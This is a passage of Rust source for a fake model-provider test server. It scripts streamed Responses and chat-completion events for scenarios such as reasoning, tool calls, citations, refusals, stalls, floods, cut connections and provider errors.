                    content_type: "application/json",
                    headers: Vec::new(),
                    steps: vec![Step::Raw(half), Step::Pause(FLUSH_GRACE), Step::Cut],
                }
            }
        };
        if !waited.is_zero() {
            reply.steps.insert(0, Step::Pause(waited));
        }
        reply
    }
}

fn message_item(id: &str, status: &str, text: Option<&str>) -> Value {
    let content = text.map_or_else(Vec::new, |text| {
        vec![json!({ "type": "output_text", "text": text, "annotations": [], "logprobs": [] })]
    });
    json!({ "type": "message", "id": id, "role": "assistant", "status": status, "content": content })
}

/// Word-sized deltas that concatenate back to `text` (spaces stay attached to the word before).
fn words(text: &str) -> Vec<&str> {
    text.split_inclusive(' ').collect()
}

fn echo_script(turn: &Turn, malformed: bool) -> Script {
    let mut script = Script::new();
    script.start(turn);
    let item = script.message(turn, 0, &words(&turn.answer), Duration::ZERO);
    let usage = turn.usage(&turn.answer, "");
    script.completed(turn.response("completed", vec![item], Some(usage), None));
    if malformed {
        // Right after the first text delta: the client has started rendering when it hits it.
        let first_delta = script.steps.iter().position(|step| {
            matches!(step, Step::Event(event) if event["type"] == "response.output_text.delta")
        });
        let at = first_delta.map_or(script.steps.len(), |i| i + 1);
        script
            .steps
            .insert(at, Step::Raw(MALFORMED_EVENT.to_owned()));
        script.malformed = true;
    }
    script
}

fn reasoning_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    let id = &turn.reasoning_id;
    script.event(
        "response.output_item.added",
        json!({ "output_index": 0, "item": { "type": "reasoning", "id": id, "summary": [] } }),
    );
    script.event(
        "response.reasoning_summary_part.added",
        json!({
            "item_id": id, "output_index": 0, "summary_index": 0,
            "part": { "type": "summary_text", "text": "" },
        }),
    );
    for delta in words(REASONING_SUMMARY) {
        script.event(
            "response.reasoning_summary_text.delta",
            json!({ "item_id": id, "output_index": 0, "summary_index": 0, "delta": delta }),
        );
    }
    script.event(
        "response.reasoning_summary_text.done",
        json!({ "item_id": id, "output_index": 0, "summary_index": 0, "text": REASONING_SUMMARY }),
    );
    script.event(
        "response.reasoning_summary_part.done",
        json!({
            "item_id": id, "output_index": 0, "summary_index": 0,
            "part": { "type": "summary_text", "text": REASONING_SUMMARY },
        }),
    );
    for delta in words(REASONING_TEXT) {
        script.event(
            "response.reasoning_text.delta",
            json!({ "item_id": id, "output_index": 0, "content_index": 0, "delta": delta }),
        );
    }
    script.event(
        "response.reasoning_text.done",
        json!({ "item_id": id, "output_index": 0, "content_index": 0, "text": REASONING_TEXT }),
    );
    let reasoning = json!({
        "type": "reasoning",
        "id": id,
        "status": "completed",
        "summary": [{ "type": "summary_text", "text": REASONING_SUMMARY }],
        "content": [{ "type": "reasoning_text", "text": REASONING_TEXT }],
        "encrypted_content": format!("gAAAA-fake-encrypted-{id}"),
        "format": "openai-responses-v1",
    });
    script.event(
        "response.output_item.done",
        json!({ "output_index": 0, "item": reasoning }),
    );
    let message = script.message(turn, 1, &words(&turn.answer), Duration::ZERO);
    let usage = turn.usage(&turn.answer, REASONING_TEXT);
    script.completed(turn.response("completed", vec![reasoning, message], Some(usage), None));
    script
}

fn citations_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    script.message_start(turn, 0);
    script.text_deltas(turn, 0, &words(&turn.answer), Duration::ZERO);
    let end = turn.answer.chars().count();
    let annotations: Vec<Value> = CITATION_URLS
        .iter()
        .enumerate()
        .map(|(i, url)| {
            json!({ "type": "url_citation", "url": url, "title": format!("Source {i}"),
                    "start_index": 0, "end_index": end })
        })
        .collect();
    for (i, annotation) in annotations.iter().enumerate() {
        script.event(
            "response.output_text.annotation.added",
            json!({
                "item_id": turn.message_id, "output_index": 0, "content_index": 0,
                "annotation_index": i, "annotation": annotation,
            }),
        );
    }
    let item = script.message_finish(turn, 0, &turn.answer);
    let usage = turn.usage(&turn.answer, "");
    script.completed(turn.response("completed", vec![item], Some(usage), None));
    script
}

/// The 1×1 PNG `fake/image` generates, base64-encoded.
pub const FAKE_IMAGE_PNG_B64: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

fn image_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    let id = format!("ig_{}", turn.message_id);
    script.event(
        "response.output_item.added",
        json!({ "output_index": 0,
                "item": { "type": "image_generation_call", "id": id, "status": "in_progress" } }),
    );
    let image = json!({ "type": "image_generation_call", "id": id, "status": "completed",
                        "result": FAKE_IMAGE_PNG_B64 });
    script.event(
        "response.output_item.done",
        json!({ "output_index": 0, "item": image }),
    );
    let message = script.message(turn, 1, &words(&turn.answer), Duration::ZERO);
    let usage = turn.usage(&turn.answer, "");
    script.completed(turn.response("completed", vec![image, message], Some(usage), None));
    script
}

fn incomplete_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    let item = script.message(turn, 0, &INCOMPLETE_DELTAS, Duration::ZERO);
    let text = INCOMPLETE_DELTAS.concat();
    let mut response = turn.response("incomplete", vec![item], Some(turn.usage(&text, "")), None);
    response["incomplete_details"] = json!({ "reason": "max_output_tokens" });
    script.event("response.incomplete", json!({ "response": response }));
    script.outcome = Outcome::Terminal(response);
    script
}

fn slow_script(turn: &Turn, config: &FakeConfig) -> Script {
    let deltas: Vec<String> = (0..config.slow_deltas)
        .map(|i| format!("tok{i} "))
        .collect();
    let answer = deltas.concat();
    let mut script = Script::new();
    script.start(turn);
    let item = script.message(
        turn,
        0,
        &deltas,
        Duration::from_millis(config.slow_delay_ms),
    );
    let usage = turn.usage(&answer, "");
    script.completed(turn.response("completed", vec![item], Some(usage), None));
    script
}

/// How a stream that stops after [`PARTIAL_DELTAS`] ends.
enum Ending {
    Cut,
    Clean,
    Failed,
}

fn partial_script(turn: &Turn, ending: Ending) -> Script {
    let mut script = Script::new();
    script.start(turn);
    script.message_start(turn, 0);
    script.text_deltas(turn, 0, &PARTIAL_DELTAS, Duration::ZERO);
    let partial_text = PARTIAL_DELTAS.concat();
    match ending {
        Ending::Cut => {
            let partial = message_item(&turn.message_id, "in_progress", Some(&partial_text));
            script.steps.push(Step::Pause(FLUSH_GRACE));
            script.steps.push(Step::Cut);
            script.outcome = Outcome::Cut(turn.response("in_progress", vec![partial], None, None));
        }
        Ending::Clean => {
            let partial = message_item(&turn.message_id, "in_progress", Some(&partial_text));
            script.outcome =
                Outcome::Unfinished(turn.response("in_progress", vec![partial], None, None));
        }
        Ending::Failed => {
            let partial = message_item(&turn.message_id, "incomplete", Some(&partial_text));
            script.failed(turn.failure(vec![partial]));
        }
    }
    script
}

fn failed_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.event(
        "response.created",
        json!({ "response": turn.response("in_progress", Vec::new(), None, None) }),
    );
    script.failed(turn.failure(Vec::new()));
    script
}

fn error_event_script(turn: &Turn) -> Script {
    let message = "Provider rate limited (fake)";
    let mut script = Script::new();
    script.event(
        "response.created",
        json!({ "response": turn.response("in_progress", Vec::new(), None, None) }),
    );
    script.event(
        "error",
        json!({ "code": "rate_limit_exceeded", "message": message, "param": null }),
    );
    script.outcome = Outcome::ErrorEvent {
        status: 429,
        message,
    };
    script
}

/// Which tools a tool scenario calls, read from the request: the function tools it offers, in
/// order, narrowed by `use:<name>` words in the last user message (repeatable); `times:<n>` sets
/// how often `fake/tool-many` calls.
#[derive(Debug)]
pub struct ToolPlan {
    /// `(name, arguments)` of each call to make, in order.
    pub calls: Vec<(String, Value)>,
}

impl ToolPlan {
    /// The plan for `scenario` and a request body.
    #[must_use]
    pub fn new(scenario: Scenario, request: &Value) -> Self {
        let tools: Vec<&Value> = request
            .get("tools")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter(|t| t.get("type").and_then(Value::as_str) == Some("function"))
            .collect();
        let text = last_user_text(request.get("input").unwrap_or(&Value::Null));
        let wanted: Vec<&str> = text
            .split_whitespace()
            .filter_map(|w| w.strip_prefix("use:"))
            .collect();
        let times = text
            .split_whitespace()
            .find_map(|w| w.strip_prefix("times:")?.parse::<usize>().ok())
            .unwrap_or(TOOL_MANY_CALLS)
            .clamp(1, 200);
        let chosen: Vec<&Value> = if wanted.is_empty() {
            tools
        } else {
            wanted
                .iter()
                .filter_map(|w| tools.iter().copied().find(|t| tool_name(t) == *w))
                .collect()
        };
        let call = |t: &Value| {
            (
                tool_name(t).to_owned(),
                sample_arguments(t.get("parameters")),
            )
        };
        let calls = match scenario {
            Scenario::ToolParallel => chosen.into_iter().map(call).collect(),
            Scenario::ToolMany => chosen
                .first()
                .map(|t| vec![call(t); times])
                .unwrap_or_default(),
            Scenario::ToolCallBad => chosen
                .first()
                .map(|t| vec![call(t); BAD_ARGUMENTS.len()])
                .unwrap_or_default(),
            _ => chosen.first().map(|t| vec![call(t)]).unwrap_or_default(),
        };
        Self { calls }
    }
}

fn tool_name(tool: &Value) -> &str {
    tool.get("name").and_then(Value::as_str).unwrap_or_default()
}

/// Arguments a model might produce for a parameters schema: a sample value per required
/// property (`null` where the schema allows it, as strict-mode models do for optional ones).
fn sample_arguments(schema: Option<&Value>) -> Value {
    let mut args = Map::new();
    let Some(schema) = schema else {
        return Value::Object(args);
    };
    let required: Vec<&str> = schema
        .get("required")
        .and_then(Value::as_array)
        .map(|r| r.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    for name in required {
        let prop = schema.pointer(&format!("/properties/{name}"));
        args.insert(name.to_owned(), sample_value(prop));
    }
    Value::Object(args)
}

fn sample_value(schema: Option<&Value>) -> Value {
    let Some(schema) = schema else {
        return json!("sample");
    };
    if let Some(first) = schema
        .get("enum")
        .and_then(Value::as_array)
        .and_then(|e| e.first())
    {
        return first.clone();
    }
    let types: Vec<&str> = match schema.get("type") {
        Some(Value::String(t)) => vec![t.as_str()],
        Some(Value::Array(ts)) => ts.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    };
    if types.contains(&"null") || schema.get("anyOf").is_some() {
        return Value::Null;
    }
    match types.first().copied() {
        Some("integer" | "number") => json!(2),
        Some("boolean") => json!(true),
        Some("array") => json!([]),
        Some("object") => sample_arguments(Some(schema)),
        _ => json!("Paris"),
    }
}

/// The `function_call_output` texts of a Responses `input`, in order.
#[must_use]
pub fn tool_outputs(request: &Value) -> Vec<String> {
    request
        .get("input")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter(|i| i.get("type").and_then(Value::as_str) == Some("function_call_output"))
        .map(|i| match i.get("output") {
            Some(Value::String(s)) => s.clone(),
            Some(other) => other.to_string(),
            None => String::new(),
        })
        .collect()
}

fn tool_script(scenario: Scenario, turn: &Turn, request: &Value) -> Script {
    let outputs = tool_outputs(request);
    let calls_banned = request.get("tool_choice").and_then(Value::as_str) == Some("none");
    let call_again = scenario == Scenario::ToolForever || outputs.is_empty();
    let plan = ToolPlan::new(scenario, request);
    if !call_again || calls_banned || plan.calls.is_empty() {
        let answer = if outputs.is_empty() {
            "no tools to call".to_owned()
        } else {
            format!("{TOOL_ANSWER_PREFIX}{}", outputs.join(" | "))
        };
        let mut script = Script::new();
        script.start(turn);
        let item = script.message(turn, 0, &words(&answer), Duration::ZERO);
        let usage = turn.usage(&answer, "");
        script.completed(turn.response("completed", vec![item], Some(usage), None));
        return script;
    }
    let late = scenario == Scenario::ToolCallLate;
    let mut script = Script::new();
    script.start(turn);
    // A reasoning item first, with encrypted content the next turn must carry back.
    let id = &turn.reasoning_id;
    script.event(
        "response.output_item.added",
        json!({ "output_index": 0, "item": { "type": "reasoning", "id": id, "summary": [] } }),
    );
    script.event(
        "response.reasoning_summary_text.delta",
        json!({ "item_id": id, "output_index": 0, "summary_index": 0, "delta": TOOL_REASONING }),
    );
    let reasoning = json!({
        "type": "reasoning",
        "id": id,
        "status": "completed",
        "summary": [{ "type": "summary_text", "text": TOOL_REASONING }],
        "encrypted_content": format!("gAAAA-fake-encrypted-{id}"),
        "format": "openai-responses-v1",
    });
    script.event(
        "response.output_item.done",
        json!({ "output_index": 0, "item": reasoning }),
    );
    let mut items = vec![reasoning];
    let mut all_arguments = String::new();
    for (n, (name, args)) in plan.calls.iter().enumerate() {
        let index = n + 1;
        let item_id = fresh_id("fc");
        let call_id = fresh_id("call");
        let arguments = match scenario {
            Scenario::ToolCallBad => BAD_ARGUMENTS[n % BAD_ARGUMENTS.len()].to_owned(),
            _ => args.to_string(),
        };
        all_arguments.push_str(&arguments);
        let item = |arguments: &str, status: &str| {
            json!({ "type": "function_call", "id": item_id, "call_id": call_id, "name": name,
                    "arguments": arguments, "status": status })
        };
        script.event(
            "response.output_item.added",
            json!({ "output_index": index, "item": item("", "in_progress") }),
        );
        if !late {
            let cut = arguments.len() / 2;
            let cut = (0..=cut)
                .rev()
                .find(|&i| arguments.is_char_boundary(i))
                .unwrap_or(0);
            for piece in [&arguments[..cut], &arguments[cut..]] {
                script.event(
                    "response.function_call_arguments.delta",
                    json!({ "item_id": item_id, "output_index": index, "delta": piece }),
                );
            }
            script.event(
                "response.function_call_arguments.done",
                json!({ "item_id": item_id, "output_index": index, "name": name,
                        "arguments": arguments }),
            );
        }
        let shown = if late { "" } else { arguments.as_str() };
        script.event(
            "response.output_item.done",
            json!({ "output_index": index, "item": item(shown, "completed") }),
        );
        items.push(item(&arguments, "completed"));
    }
    let usage = turn.usage(&all_arguments, TOOL_REASONING);
    script.completed(turn.response("completed", items, Some(usage), None));
    script
}

/// The text of the last user message in a Responses `input`: a bare string input, a message whose
/// `content` is a string, or the `text` of its content parts joined by spaces.
fn last_user_text(input: &Value) -> String {
    match input {
        Value::String(text) => text.clone(),
        Value::Array(items) => items
            .iter()
            .rev()
            .find(|item| {
                item.get("role").and_then(Value::as_str) == Some("user")
                    && item
                        .get("type")
                        .and_then(Value::as_str)
                        .is_none_or(|kind| kind == "message")
            })
            .map(|item| match item.get("content") {
                Some(Value::String(text)) => text.clone(),
                Some(Value::Array(parts)) => parts
                    .iter()
                    .filter_map(|part| part.get("text").and_then(Value::as_str))
                    .collect::<Vec<_>>()
                    .join(" "),
                _ => String::new(),
            })
            .unwrap_or_default(),
        _ => String::new(),
    }
}

/// Characters of readable text in an `input` value; skips ids, URLs and inline file data, which
/// a provider does not bill as text tokens.
fn text_chars(value: &Value) -> usize {
    match value {
        Value::String(text) => text.chars().count(),
        Value::Array(items) => items.iter().map(text_chars).sum(),
        Value::Object(object) => ["content", "text", "output", "arguments"]
            .iter()
            .filter_map(|key| object.get(*key))
            .map(text_chars)
            .sum(),
        _ => 0,
    }
}

fn unix_now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |elapsed| elapsed.as_secs())
}

/// A process-unique id such as `resp_fake67a1b2c30000002a`.
fn fresh_id(prefix: &str) -> String {
    static NEXT: AtomicU64 = AtomicU64::new(1);
    let n = NEXT.fetch_add(1, Ordering::Relaxed);
    format!("{prefix}_fake{:x}{n:08x}", unix_now())
}

/// How many identical requests `fake/flaky-start` cuts before it answers.
pub const FLAKY_START_CUTS: usize = 2;

/// How long `fake/slow-start` waits between `response.in_progress` and its first output.
pub const SLOW_START_PAUSE: Duration = Duration::from_millis(2_500);

/// The models `fake/typed-error` suggests in its `availability` block.
pub const TYPED_ERROR_FALLBACKS: [&str; 2] = ["fake/echo", "fake/reasoning"];

/// The reasoning `fake/chat-bridge` streams, one `reasoning_details` fragment per piece.
pub const BRIDGE_REASONING: [&str; 2] = ["Weighing ", "the sources."];

/// The signature that closes `fake/chat-bridge`'s reasoning detail.
pub const BRIDGE_SIGNATURE: &str = "sig-fake-bridge";

/// The page `fake/chat-bridge` cites.
pub const BRIDGE_CITATION: &str = "https://c.example/source";

/// The argument fragments of `fake/chat-bridge`'s tool call; they join to `{"city": "Paris"}`.
pub const BRIDGE_TOOL_ARGUMENTS: [&str; 3] = ["{\"city\"", ": \"Par", "is\"}"];

/// Whether a request asks for reasoning in any of the forms the pipe sends.
fn asks_for_reasoning(request: &Value) -> bool {
    request.get("reasoning").is_some_and(|r| !r.is_null())
        || request.get("thinking_config").is_some_and(|t| !t.is_null())
        || request.get("include_reasoning") == Some(&Value::Bool(true))
}

/// The refusal `fake/no-thoughts` gives while reasoning is asked for (Gemini's wording when
/// thinking is off for the chosen model).
fn no_thoughts_refusal_reply() -> Reply {
    let raw = json!({ "error": {
        "code": 400,
        "message": "include_thoughts is only enabled when thinking is enabled.",
        "status": "INVALID_ARGUMENT",
    } });
    Reply::json(
        400,
        &json!({ "error": {
            "code": 400,
            "message": "Provider returned error",
            "metadata": { "provider_name": "FakeProvider", "raw": raw.to_string() },
        } }),
    )
}

/// A stream cut before its first event: the headers and OpenRouter's keep-alive comment, then
/// the connection dies (`fake/cut-start`, and the first attempts of `fake/flaky-start`).
pub(crate) fn cut_before_output_reply() -> Reply {
    Reply {
        status: 200,
        content_type: "text/event-stream",
        headers: vec![("cache-control", "no-cache")],
        steps: vec![
            Step::Raw(": OPENROUTER PROCESSING\n\n".to_owned()),
            Step::Pause(FLUSH_GRACE),
            Step::Cut,
        ],
    }
}

/// The deltas `fake/stall` sends before it goes silent.
pub const STALL_DELTAS: [&str; 3] = ["stalled ", "after ", "three "];
/// How long `fake/stall` holds its stream open and silent: long enough for every test that
/// disconnects or times out during it, short enough that a stream nobody ends cannot hold a
/// suite up for long.
pub const STALL_HOLD: Duration = Duration::from_secs(10);
/// How many deltas `fake/flood` sends.
pub const FLOOD_DELTAS: usize = 1024;
/// The characters of each `fake/flood` delta.
pub const FLOOD_DELTA_CHARS: usize = 8 * 1024;

fn stall_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    script.message_start(turn, 0);
    script.text_deltas(turn, 0, &STALL_DELTAS, Duration::ZERO);
    script.steps.push(Step::Pause(STALL_HOLD));
    let answer = STALL_DELTAS.concat();
    let item = script.message_finish(turn, 0, &answer);
    let usage = turn.usage(&answer, "");
    script.completed(turn.response("completed", vec![item], Some(usage), None));
    script
}

fn flood_script(turn: &Turn) -> Script {
    let delta = "x".repeat(FLOOD_DELTA_CHARS - 1) + " ";
    let deltas = vec![delta; FLOOD_DELTAS];
    let mut script = Script::new();
    script.start(turn);
    let item = script.message(turn, 0, &deltas, Duration::ZERO);
    let usage = turn.usage(&deltas.concat(), "");
    script.completed(turn.response("completed", vec![item], Some(usage), None));
    script
}

/// The echo with a long silence after `response.created` and `response.in_progress`.
fn slow_start_script(turn: &Turn) -> Script {
    let mut script = echo_script(turn, false);
    script.steps.insert(2, Step::Pause(SLOW_START_PAUSE));
    script
}

/// OpenRouter's typed error shape: the canonical `metadata.error_type` and an `availability`
/// block with a retry hint and fallback models.
fn typed_error_reply() -> Reply {
    Reply::json(
        503,
        &json!({ "error": {
            "code": 503,
            "message": "All providers for this model are overloaded (fake)",
            "metadata": { "error_type": "provider_overloaded", "provider_name": "FakeProvider" },
            "availability": {
                "code": "capacity_exhausted",
                "retry_after": 2.5,
                "fallback_models": TYPED_ERROR_FALLBACKS,
            },
        } }),
    )
}

/// `/responses` failing as unsupported inside the stream, before or after visible output.
fn unsupported_stream_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    if turn.answer.contains("late") {
        script.message_start(turn, 0);
        let words = words(&turn.answer);
        script.text_deltas(turn, 0, &words[..1], Duration::ZERO);
    }
    let error = json!({
        "code": "unsupported_endpoint",
        "message": "Responses API is not supported for this model (fake)",
    });
    script.failed(turn.response("failed", Vec::new(), None, Some(error)));
    script
}

/// `fake/chat-bridge` on `/chat/completions`: everything the Responses bridge must translate.
fn chat_bridge_reply(request: &Value) -> Reply {
    let messages = request.get("messages").unwrap_or(&Value::Null);
    let text = format!("echo: {}", last_user_text(messages));
    let answered = messages
        .as_array()
        .is_some_and(|m| m.iter().any(|m| m["role"] == "tool"));
    // A weather tool if one is offered (the arguments name a city), else the first one.
    let names: Vec<&str> = request
        .get("tools")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(|t| t.pointer("/function/name").and_then(Value::as_str))
        .collect();
    let tool = names
        .iter()
        .find(|n| n.contains("weather"))
        .or(names.first())
        .copied()
        .filter(|_| !answered);
    let model = request
        .get("model")
        .and_then(Value::as_str)
        .unwrap_or_default();
    let id = fresh_id("gen");
    let created = unix_now();
    let input_tokens = u64::try_from(text_chars(messages) / 4)
        .unwrap_or(u64::MAX)
        .saturating_add(1);
    let reasoning = BRIDGE_REASONING.concat();
    let reasoning_tokens = token_estimate(&reasoning);
    let output_tokens = token_estimate(&text) + reasoning_tokens;
    let usage = json!({
        "prompt_tokens": input_tokens,
        "completion_tokens": output_tokens,
        "total_tokens": input_tokens + output_tokens,
        "prompt_tokens_details": { "cached_tokens": CACHED_TOKENS },
        "completion_tokens_details": { "reasoning_tokens": reasoning_tokens },
        "cost": fake_cost(input_tokens, output_tokens),
    });
    let detail = |fields: Value| {
        let mut detail =
            json!({ "type": "reasoning.text", "format": "anthropic-claude-v1", "index": 0 });
        if let (Some(d), Value::Object(f)) = (detail.as_object_mut(), fields) {
            d.extend(f);
        }
        detail
    };
    let citation = json!({ "type": "url_citation", "url_citation": {
        "url": BRIDGE_CITATION, "title": "C source", "content": "the cited excerpt",
        "start_index": 0, "end_index": 4,
    } });
    let finish = if tool.is_some() { "tool_calls" } else { "stop" };
    let stream = request.get("stream").and_then(Value::as_bool) == Some(true);
    if !stream {
        let mut message = json!({
            "role": "assistant", "content": text, "reasoning": reasoning,
            "reasoning_details": [detail(json!({ "text": reasoning, "signature": BRIDGE_SIGNATURE }))],
            "annotations": [citation],
        });
        if let Some(name) = tool {
            message["tool_calls"] = json!([{ "id": "call_bridge_1", "type": "function",
                "function": { "name": name, "arguments": BRIDGE_TOOL_ARGUMENTS.concat() } }]);
        }
        return Reply::json(
            200,
            &json!({ "id": id, "object": "chat.completion", "created": created, "model": model,
                     "choices": [{ "index": 0, "message": message, "finish_reason": finish }],
                     "usage": usage }),
        );
    }
    let chunk = |delta: Value| {
        Step::Event(
            json!({ "id": id, "object": "chat.completion.chunk", "created": created,
                            "model": model, "choices": [{ "index": 0, "delta": delta }] }),
        )
    };
    let mut steps = vec![Step::Raw(": OPENROUTER PROCESSING\n\n".to_owned())];
    steps.push(chunk(json!({ "role": "assistant", "content": "",
        "reasoning": BRIDGE_REASONING[0],
        "reasoning_details": [detail(json!({ "text": BRIDGE_REASONING[0] }))] })));
    steps.push(chunk(json!({ "reasoning": BRIDGE_REASONING[1],
        "reasoning_details": [detail(json!({ "text": BRIDGE_REASONING[1] }))] })));
    steps.push(chunk(
        json!({ "reasoning_details": [detail(json!({ "signature": BRIDGE_SIGNATURE }))] }),
    ));
    for word in words(&text) {
        steps.push(chunk(json!({ "content": word })));
    }
    steps.push(chunk(json!({ "annotations": [citation] })));
    if let Some(name) = tool {
        steps.push(chunk(
            json!({ "tool_calls": [{ "index": 0, "id": "call_bridge_1",
            "type": "function", "function": { "name": name, "arguments": "" } }] }),
        ));
        for piece in BRIDGE_TOOL_ARGUMENTS {
            steps.push(chunk(
                json!({ "tool_calls": [{ "index": 0, "function": { "arguments": piece } }] }),
            ));
        }
    }
    steps.push(Step::Event(
        json!({ "id": id, "object": "chat.completion.chunk",
        "created": created, "model": model,
        "choices": [{ "index": 0, "delta": {}, "finish_reason": finish }] }),
    ));
    steps.push(Step::Event(
        json!({ "id": id, "object": "chat.completion.chunk",
        "created": created, "model": model, "choices": [], "usage": usage }),
    ));
    steps.push(Step::Raw("data: [DONE]\n\n".to_owned()));
    Reply {
        status: 200,
        content_type: "text/event-stream",
        headers: vec![("cache-control", "no-cache")],
        steps,
    }
}

/// The panel model of `fake/fusion` that answers, its answer, and the one that fails.
pub const FUSION_PANEL: (&str, &str, &str) =
    ("fake/panel-one", "Carbon taxes <work>.", "fake/panel-two");

/// The page `fake/fusion` says its run read (with the tracking tag OpenRouter may add).
pub const FUSION_SOURCE: &str = "https://fusion.example/carbon?utm_source=openai";

fn fusion_script(turn: &Turn) -> Script {
    let (answering, answer, failing) = FUSION_PANEL;
    let mut script = Script::new();
    script.start(turn);
    let id = format!("st_fusion_{}", turn.message_id);
    let at = |fields: Value| {
        let mut fields = fields;
        fields["item_id"] = json!(id);
        fields["output_index"] = json!(0);
        fields
    };
    script.event(
        "response.output_item.added",
        json!({ "output_index": 0, "item": { "type": "openrouter:fusion", "id": id, "status": "in_progress" } }),
    );
    script.event("response.fusion_call.in_progress", at(json!({})));
    script.event(
        "response.fusion_call.panel.added",
        at(json!({ "model": answering })),
    );
    script.event(
        "response.fusion_call.panel.added",
        at(json!({ "model": failing })),
    );
    script.event(
        "response.fusion_call.panel.reasoning.delta",
        at(json!({ "model": answering, "delta": "Weighing it up" })),
    );
    script.event(
        "response.fusion_call.panel.delta",
        at(json!({ "model": answering, "delta": "Carbon taxes " })),
    );
    script.event(
        "response.fusion_call.panel.completed",
        at(json!({ "model": answering, "content": answer })),
    );
    script.event(
        "response.fusion_call.panel.failed",
        at(json!({ "model": failing, "error": "Upstream provider error", "status_code": 502 })),
    );
    script.event(
        "response.fusion_call.analysis.in_progress",
        at(json!({ "analyst_model": "fake/fusion", "judge_model": "fake/fusion" })),
    );
    let analysis = json!({
        "consensus": ["Carbon taxes reduce emissions."],
        "contradictions": [],
        "partial_coverage": [],
        "unique_insights": [{ "model": answering, "insight": "Border adjustments matter." }],
        "blind_spots": ["Politics"],
    });
    script.event(
        "response.fusion_call.analysis.completed",
        at(json!({ "analysis": analysis })),
    );
    script.event("response.fusion_call.completed", at(json!({})));
    let item = json!({
        "type": "openrouter:fusion", "id": id, "status": "completed", "analysis": analysis,
        "responses": [{ "model": answering, "content": answer }],
        "failed_models": [{ "model": failing, "error": "Upstream provider error", "status_code": 502 }],
        "sources": [{ "url": FUSION_SOURCE, "title": "Carbon pricing" }],
    });
    script.event(
        "response.output_item.done",
        json!({ "output_index": 0, "item": item }),
    );
    let message = script.message(turn, 1, &words(&turn.answer), Duration::ZERO);
    let usage = turn.usage(&turn.answer, "");
    script.completed(turn.response("completed", vec![item, message], Some(usage), None));
    script
}

fn no_deltas_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    let id = &turn.reasoning_id;
    script.event(
        "response.output_item.added",
        json!({ "output_index": 0, "item": { "type": "reasoning", "id": id, "summary": [] } }),
    );
    script.event(
        "response.reasoning_summary_text.done",
        json!({ "item_id": id, "output_index": 0, "summary_index": 0, "text": REASONING_SUMMARY }),
    );
    let reasoning = json!({ "type": "reasoning", "id": id,
                            "summary": [{ "type": "summary_text", "text": REASONING_SUMMARY }] });
    script.event(
        "response.output_item.done",
        json!({ "output_index": 0, "item": reasoning }),
    );
    script.event(
        "response.output_item.added",
        json!({ "output_index": 1, "item": message_item(&turn.message_id, "in_progress", None) }),
    );
    let message = script.message_finish(turn, 1, &turn.answer);
    let usage = turn.usage(&turn.answer, REASONING_SUMMARY);
    script.completed(turn.response("completed", vec![reasoning, message], Some(usage), None));
    script
}

/// What `fake/refusal` says.
pub const REFUSAL: &str = "I can't help with that (fake).";

fn refusal_script(turn: &Turn) -> Script {
    let mut script = Script::new();
    script.start(turn);
    let id = &turn.message_id;
    script.event(
        "response.output_item.added",
        json!({ "output_index": 0, "item": message_item(id, "in_progress", None) }),
    );
    for delta in words(REFUSAL) {
        script.event(
            "response.refusal.delta",
            json!({ "item_id": id, "output_index": 0, "content_index": 0, "delta": delta }),
        );
    }
    script.event(
        "response.refusal.done",
        json!({ "item_id": id, "output_index": 0, "content_index": 0, "refusal": REFUSAL }),
    );
    let message = json!({ "type": "message", "id": id, "role": "assistant", "status": "completed",
                          "content": [{ "type": "refusal", "refusal": REFUSAL }] });
    script.event(
        "response.output_item.done",
        json!({ "output_index": 0, "item": message }),
    );
    let usage = turn.usage(REFUSAL, "");
    script.completed(turn.response("completed", vec![message], Some(usage), None));
    script
}

/// The query and the two source URLs of `fake/server-tools`' web search.
pub const SERVER_TOOLS_SEARCH: (&str, [&str; 2]) = (
    "rust wasm components",
    [
        "https://search-one.example/a?utm_source=openai",
        "https://search-two.example/b",
    ],
);

fn server_tools_script(turn: &Turn) -> Script {
    let (query, urls) = SERVER_TOOLS_SEARCH;
    let mut script = Script::new();
    script.start(turn);
    let items = [
        json!({ "type": "openrouter:web_search", "id": "ws_fake_1", "status": "completed",
                "action": { "type": "search", "query": query,
                            "sources": urls.iter().map(|u| json!({ "type": "url", "url": u })).collect::<Vec<_>>() } }),
        json!({ "type": "openrouter:web_fetch", "id": "wf_fake_1", "status": "completed",
                "url": "https://docs.example/page", "title": "Docs page", "content": "Fetched text.",
                "httpStatus": 200 }),
        json!({ "type": "openrouter:datetime", "id": "dt_fake_1", "status": "completed",
                "datetime": "2026-12-01T00:00:00.000Z", "timezone": "UTC" }),
        json!({ "type": "openrouter:advisor", "id": "ad_fake_1", "status": "failed",
                "error": "Advisor unavailable (fake)" }),
        json!({ "type": "file_search_call", "id": "fs_fake_1", "status": "completed",
                "queries": ["fake quarterly report"] }),
    ];
    for (i, item) in items.iter().enumerate() {
        let mut started = item.clone();
        started["status"] = json!("in_progress");
        script.event(
            "response.output_item.added",
            json!({ "output_index": i, "item": started }),
        );
        script.event(
            "response.output_item.done",
            json!({ "output_index": i, "item": item }),
        );
    }
    let message = script.message(turn, items.len(), &words(&turn.answer), Duration::ZERO);
    let usage = turn.usage(&turn.answer, "");
    let mut output = items.to_vec();
    output.push(message);
    script.completed(turn.response("completed", output, Some(usage), None));
    script
}

#[cfg(test)]
mod tests {
    use super::*;

    fn events(reply: &Reply) -> Vec<Value> {
        reply
            .steps
            .iter()
            .filter_map(|step| match step {
                Step::Event(event) => Some(event.clone()),
                _ => None,
            })
            .collect()
    }

    fn kinds(reply: &Reply) -> Vec<String> {
        events(reply)
            .iter()
